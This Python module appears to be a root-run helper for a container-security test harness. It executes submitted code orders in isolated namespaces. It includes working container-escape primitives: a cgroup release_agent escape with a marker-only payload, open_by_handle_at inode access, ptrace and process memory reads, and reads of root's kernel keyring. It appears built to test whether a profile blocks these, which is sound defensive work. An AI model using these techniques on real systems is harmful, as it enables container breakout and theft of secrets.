"""Runs operations inside the container, as root; what `do` of a row may use is here.

Reads one JSON order a line, answers one a line.  Every operation is a process of its own in a mount
namespace of its own (its mounts are private), with a time limit.  Standard library only.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import mmap
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import time
import traceback
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)

RDONLY, NOSUID, NODEV, NOEXEC, REMOUNT = 1, 2, 4, 8, 32
BIND, MOVE, REC, PRIVATE, SLAVE, SHARED = 4096, 8192, 16384, 1 << 18, 1 << 19, 1 << 20
NEWNS, NEWCGROUP, NEWUTS, NEWIPC = 0x20000, 0x02000000, 0x04000000, 0x08000000
NEWUSER, NEWPID, NEWNET = 0x10000000, 0x20000000, 0x40000000
KEEP = (
    contextlib, ctypes, fcntl, json, mmap, os, select, signal, socket, struct, subprocess, sys, time
)  # fmt: skip
MARK = "phoenix-efficacy"
THP = "kernel/mm/transparent_hugepage/enabled"


def call(number: int, *arguments: Any) -> int:
    """A system call; OSError where it fails."""
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result: int = libc.syscall(ctypes.c_long(number), *given)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


libc.syscall.restype = ctypes.c_long


def text(value: str | bytes | None) -> bytes | None:
    return value.encode() if isinstance(value, str) else value


def put(path: str, data: str | bytes, at: int | None = None) -> None:
    """Write to an existing file, whole."""
    fd = os.open(path, os.O_WRONLY, dir_fd=at)
    try:
        os.write(fd, data.encode() if isinstance(data, str) else data)
    finally:
        os.close(fd)


def get(path: str, at: int | None = None, size: int = 65536) -> str:
    fd = os.open(path, os.O_RDONLY, dir_fd=at)
    try:
        return os.read(fd, size).decode("latin-1")
    finally:
        os.close(fd)


def make(path: str, data: str | bytes = b"", mode: int = 0o755) -> str:
    """A file with its directories."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)
    return path


def folder(path: str) -> str:
    os.makedirs(path, exist_ok=True)
    return path


def mount(
    source: str | None, target: str, fstype: str | None = None, flags: int = 0, data: str | None = None
) -> str:
    """mount(2); the target is made where it is missing."""
    if not os.path.lexists(target):
        os.makedirs(target)
    call(165, text(source), text(target), text(fstype), flags, text(data))
    return target


def umount(target: str, flags: int = 0) -> None:
    call(166, text(target), flags)


def detached(fstype: str, **options: str) -> int:
    """A file descriptor of a new file system that is mounted nowhere (fsopen, fsmount)."""
    fs = call(430, text(fstype), 0)
    for key, value in options.items():
        call(431, fs, 1, text(key), text(value), 0)
    call(431, fs, 6, None, None, 0)
    return call(432, fs, 0, 0)


def cloned(path: str) -> int:
    """A detached copy of the mounts at `path` (open_tree)."""
    return call(428, -100, text(path), 1 | 0x8000)


def attach(fd: int, target: str) -> str:
    """move_mount a detached mount to `target`."""
    folder(target)
    call(429, fd, b"", -100, text(target), 4)
    return target


def writable(path: str) -> str:
    """mount_setattr: clear the read-only flag."""
    call(442, -100, text(path), 0x8000, struct.pack("QQQQ", 0, 1, 0, 0), 32)
    return path


def unshare(flags: int) -> None:
    call(272, flags)


def setns(fd: int, kind: int) -> None:
    call(308, fd, kind)


def node(path: str, kind: str, major: int, minor: int) -> str:
    """A device node."""
    with contextlib.suppress(FileNotFoundError):
        os.unlink(path)
    folder(os.path.dirname(path))
    os.mknod(path, (0o060000 if kind == "b" else 0o020000) | 0o600, os.makedev(major, minor))
    return path


def device(text_pair: str) -> tuple[int, int]:
    major, minor = text_pair.split(":")
    return int(major), int(minor)


def child(function: Any) -> None:
    """Run `function` in a child; RuntimeError where it raises."""
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            function()
            code = 0
        except BaseException as error:
            print(f"child: {error}", file=sys.stderr, flush=True)
        finally:
            os._exit(code)
    if os.waitpid(pid, 0)[1]:
        raise RuntimeError("the child failed")


def user_namespace(extra: int = 0) -> None:
    """A user namespace of its own with root mapped, and what else is asked for."""
    uid = os.getuid()
    unshare(NEWUSER | NEWNS | extra)
    with contextlib.suppress(OSError):
        put("/proc/self/setgroups", "deny")
    put("/proc/self/uid_map", f"0 {uid} 1")
    put("/proc/self/gid_map", f"0 {uid} 1")


def run(*argv: str, input: bytes | None = None) -> str:
    """A program's output; CalledProcessError where it fails."""
    done = subprocess.run(argv, input=input, capture_output=True, timeout=20, check=False)
    if done.returncode:
        raise RuntimeError(f"{argv[0]}: {done.stderr.decode('latin-1')[-200:]}")
    return done.stdout.decode("latin-1")


def bpf_map() -> int:
    return call(321, 0, struct.pack("IIIII", 2, 4, 8, 1, 0).ljust(128, b"\0"), 128)


def bpf_program(kind: int) -> int:
    """`return 0`, loaded as a program of this type."""
    code = ctypes.create_string_buffer(bytes.fromhex("b7000000000000009500000000000000"))
    licence = ctypes.create_string_buffer(b"GPL")
    data = struct.pack("IIQQ", kind, 2, ctypes.addressof(code), ctypes.addressof(licence))
    return call(321, 5, data.ljust(128, b"\0"), 128)


def bpf_update(fd: int, value: bytes) -> None:
    key = ctypes.create_string_buffer(bytes(4), 4)
    val = ctypes.create_string_buffer(value.ljust(8, b"\0"), 8)
    data = struct.pack("IIQQQ", fd, 0, ctypes.addressof(key), ctypes.addressof(val), 0)
    call(321, 2, data.ljust(128, b"\0"), 128)


def bpf_all_maps() -> list[int]:
    """File descriptors of all maps of this kernel."""
    found, last = [], 0
    while len(found) < 64:
        data = ctypes.create_string_buffer(struct.pack("III", last, 0, 0).ljust(128, b"\0"), 128)
        try:
            call(321, 12, data, 128)
        except FileNotFoundError:
            break
        last = struct.unpack_from("I", data, 4)[0]
        found.append(call(321, 14, struct.pack("I", last).ljust(128, b"\0"), 128))
    return found


def perf(kind: int, config: int, pid: int, cpu: int, config1: int = 0, config2: int = 0, bp: int = 0) -> int:
    data = bytearray(128)
    struct.pack_into("IIQ", data, 0, kind, 128, config)
    struct.pack_into("Q", data, 16, 1000000)
    struct.pack_into("I", data, 52, bp)
    struct.pack_into("QQ", data, 56, config1, config2)
    return call(298, bytes(data), pid, cpu, -1, 8)


def perf_counts(fd: int) -> None:
    """The counter is readable: the event is really there."""
    if len(os.read(fd, 8)) != 8:
        raise RuntimeError("no counter")


def tracing(path: str) -> str:
    return mount("tracefs", path, "tracefs")


def ptrace(request: int, pid: int, address: int = 0, data: int = 0) -> int:
    return call(101, request, pid, address, data)


def attached(pid: int) -> None:
    """PTRACE_ATTACH until it stands still."""
    ptrace(16, pid)
    os.waitpid(pid, 0x40000000)


def memory(pid: int, address: int, size: int = 64) -> str:
    """process_vm_readv."""
    local = ctypes.create_string_buffer(size)
    mine = struct.pack("QQ", ctypes.addressof(local), size)
    theirs = struct.pack("QQ", address, size)
    call(310, pid, mine, 1, theirs, 1, 0)
    return local.raw.decode("latin-1")


def keyctl(command: int, *arguments: Any) -> int:
    return call(250, command, *arguments)


def find_key(name: str) -> int:
    """A key of root's user keyring (-4) by its description."""
    return keyctl(10, -4, b"user", text(name), 0)


def read_key(key: int) -> str:
    data = ctypes.create_string_buffer(256)
    size = keyctl(11, key, data, 256)
    return data.raw[:size].decode("latin-1")


def by_handle(fd: int, inode: int) -> int:
    """open_by_handle_at for an ext4 inode."""
    handle = struct.pack("IiII", 8, 1, inode, 0)
    return call(304, fd, handle, os.O_RDONLY | os.O_DIRECTORY if inode == 2 else os.O_RDONLY)


def escape_by_agent(top: str, env: dict[str, Any], *, set_agent: bool = True) -> None:
    """The whole release_agent operation in a version 1 hierarchy mounted at `top`."""
    script = f"#!/bin/sh\necho {MARK} > {env['marker']}\n"
    make("/tmp/agent", script)
    if set_agent:
        put(f"{top}/release_agent", env["rootfs"] + "/tmp/agent")
    group = folder(f"{top}/phoenix-{os.getpid()}")
    put(f"{group}/notify_on_release", "1")
    pid = os.fork()
    if pid == 0:
        os._exit(0) if _into(group) else os._exit(1)
    os.waitpid(pid, 0)
    time.sleep(0.3)
    with contextlib.suppress(OSError):
        os.rmdir(group)


def _into(group: str) -> bool:
    try:
        put(f"{group}/cgroup.procs", str(os.getpid()))
        return True
    except OSError:
        return False


def device_map(path: str, flags: int = mmap.MAP_SHARED) -> None:
    """Map a device's pages for reading and writing, and use them."""
    fd = os.open(path, os.O_RDWR)
    with mmap.mmap(fd, 8192, flags, mmap.PROT_READ | mmap.PROT_WRITE) as area:
        area[:4] = b"cuda"
        if area[:4] != b"cuda":
            raise RuntimeError("what was written is not there")
    os.close(fd)


def opened(path: str, mode: int = os.O_RDWR) -> None:
    """Open a node; that no driver answers (ENXIO, ENODEV) is the node's business, not the profile's."""
    try:
        os.close(os.open(path, mode))
    except OSError as error:
        if error.errno not in (6, 19):
            raise


def link(kind: str, name: str, payload: bytes = b"") -> None:
    """Make a network interface by netlink."""

    def attr(number: int, data: bytes) -> bytes:
        return (struct.pack("HH", len(data) + 4, number) + data).ljust((len(data) + 7) & ~3, b"\0")

    info = attr(1, kind.encode()) + (attr(2, payload) if payload else b"")
    body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + attr(3, name.encode() + b"\0") + attr(18, info)
    netlink(0, 16, 0x605, body)


def netlink(protocol: int, kind: int, flags: int, body: bytes) -> None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as wire:
        wire.settimeout(5)
        wire.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        code = struct.unpack_from("i", wire.recv(4096), 16)[0]
        if code:
            raise OSError(-code, os.strerror(-code))


def nat_table() -> None:
    """A table of nf_tables, as Docker's NAT rules need one."""

    def message(kind: int, flags: int, sequence: int, body: bytes) -> bytes:
        return struct.pack("IHHII", 16 + len(body), kind, flags, sequence, 0) + body

    name = struct.pack("HH", 12, 1) + b"phoenix\0"
    batch = message(16, 1, 0, struct.pack("!BBH", 0, 0, 10))
    batch += message(10 << 8, 0x405, 1, struct.pack("!BBH", 2, 0, 0) + name)
    batch += message(17, 1, 2, struct.pack("!BBH", 0, 0, 10))
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as wire:
        wire.settimeout(5)
        wire.send(batch)
        code = struct.unpack_from("i", wire.recv(4096), 16)[0]
        if code:
            raise OSError(-code, os.strerror(-code))


ROOT = "/var/lib/docker/overlay2/phoenix"


def image_root(root: str = ROOT, fs: str = "overlay") -> str:
    """A container's root file system on overlay, with this container's /usr in it."""
    folder(root)
    mount("layers", root, "tmpfs")
    for name in ("lower", "upper", "work", "merged"):
        folder(f"{root}/{name}")
    for name in ("proc", "sys", "dev", "etc", "tmp", "usr", "data", "run", "var"):
        folder(f"{root}/lower/{name}")
    for name in ("bin", "lib", "lib64", "sbin"):
        with contextlib.suppress(FileExistsError):
            os.symlink(f"usr/{name}", f"{root}/lower/{name}")
    make(f"{root}/lower/etc/hostname", "image\n", 0o644)
    merged = f"{root}/merged"
    data = f"lowerdir={root}/lower,upperdir={root}/upper,workdir={root}/work"
    mount("overlay", merged, fs, 0, data)
    mount("/usr", f"{merged}/usr", None, BIND | REC)
    return merged


def runtime_mounts(merged: str) -> None:
    """What a container runtime mounts before it pivots."""
    mount("proc", f"{merged}/proc", "proc", NOSUID | NODEV | NOEXEC)
    mount("tmpfs", f"{merged}/dev", "tmpfs", NOSUID, "mode=755,size=64k")
    mount("devpts", f"{merged}/dev/pts", "devpts", NOSUID | NOEXEC, "newinstance,ptmxmode=0666,mode=0620")
    mount("mqueue", f"{merged}/dev/mqueue", "mqueue", NOSUID | NODEV | NOEXEC)
    mount("shm", f"{merged}/dev/shm", "tmpfs", NOSUID | NODEV | NOEXEC, "mode=1777,size=64k")
    mount("sysfs", f"{merged}/sys", "sysfs", NOSUID | NODEV | NOEXEC | RDONLY)
    mount("cgroup", f"{merged}/sys/fs/cgroup", "cgroup2", NOSUID | NODEV | NOEXEC | RDONLY)


def pivot(root: str) -> None:
    """pivot_root(., .) as runc does it, and let go of the old root."""
    old = os.open("/", os.O_DIRECTORY | os.O_RDONLY)
    new = os.open(root, os.O_DIRECTORY | os.O_RDONLY)
    os.fchdir(new)
    call(155, b".", b".")
    os.fchdir(old)
    call(165, None, b".", None, SLAVE | REC, None)
    umount(".", 2)
    os.chdir("/")
    os.close(old)
    os.close(new)


def mask_paths() -> None:
    """Docker's masked and read-only paths, after the pivot."""
    for name in ("/proc/kcore", "/proc/keys", "/proc/timer_list"):
        if os.path.exists(name):
            mount("/dev/null", name, None, BIND)
    for name in ("/proc/acpi", "/proc/scsi", "/sys/firmware"):
        if os.path.isdir(name):
            mount("tmpfs", name, "tmpfs", RDONLY)
    for name in ("/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"):
        if os.path.exists(name):
            mount(name, name, None, BIND | REC)
            flags = NOSUID | NODEV | NOEXEC
            mount(name, name, None, BIND | REMOUNT | RDONLY | flags)


def docker_run(command: tuple[str, ...] = ("/usr/bin/true",), extra: Any = None, user: bool = False) -> None:
    """A whole `docker run`: layers, namespaces, mounts, pivot, masks, exec."""
    kinds = NEWNS | NEWPID | NEWUTS | NEWIPC | NEWNET | NEWCGROUP

    def start() -> None:
        if user:
            user_namespace(NEWPID | NEWUTS | NEWIPC)
        else:
            unshare(kinds)
        child(box)

    def box() -> None:
        call(165, None, b"/", None, SLAVE | REC, None)
        merged = image_root()
        mount(merged, merged, None, BIND | REC)
        runtime_mounts(merged)
        make(f"{merged}/dev/null", b"")
        mount("/dev/null", f"{merged}/dev/null", None, BIND)
        if extra is not None:
            extra(merged)
        pivot(merged)
        mask_paths()
        socket.sethostname("image")
        run(*command)

    child(start)


def perform(order: dict[str, Any]) -> dict[str, Any]:
    """One operation in a process of its own."""
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(ours)
        answer: dict[str, Any] = {"ok": False}
        try:
            os.setsid()
            unshare(NEWNS)
            os.chdir("/tmp")
            names = dict(globals())
            names["env"] = order["env"]
            names["V"] = order["env"].get("victim", 0)
            names["result"] = None
            exec(compile(order["do"], order["name"], "exec"), names)
            answer = {"ok": True, "result": str(names["result"] or "")[-4000:]}
        except BaseException as error:
            where = traceback.extract_tb(error.__traceback__)[-1]
            answer["error"] = f"{type(error).__name__}: {error} ({where.name}:{where.lineno})"[:300]
        finally:
            with contextlib.suppress(BaseException):
                os.write(theirs, json.dumps(answer).encode())
            os._exit(0)
    os.close(theirs)
    data = b""
    end = time.monotonic() + order["limit"]
    while True:
        ready, _, _ = select.select([ours], [], [], max(0.0, end - time.monotonic()))
        if not ready:
            break
        part = os.read(ours, 65536)
        if not part:
            break
        data += part
    os.close(ours)
    with contextlib.suppress(OSError):
        os.killpg(pid, signal.SIGKILL)
    for _ in range(200):
        if os.waitpid(pid, os.WNOHANG)[0]:
            break
        time.sleep(0.005)
    return json.loads(data) if data else {"ok": False, "error": "no answer within its time limit"}


def main() -> None:
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    out = os.fdopen(os.dup(1), "w")
    os.dup2(2, 1)
    for line in sys.stdin:
        out.write(json.dumps(perform(json.loads(line))) + "\n")
        out.flush()


if __name__ == "__main__":
    main()
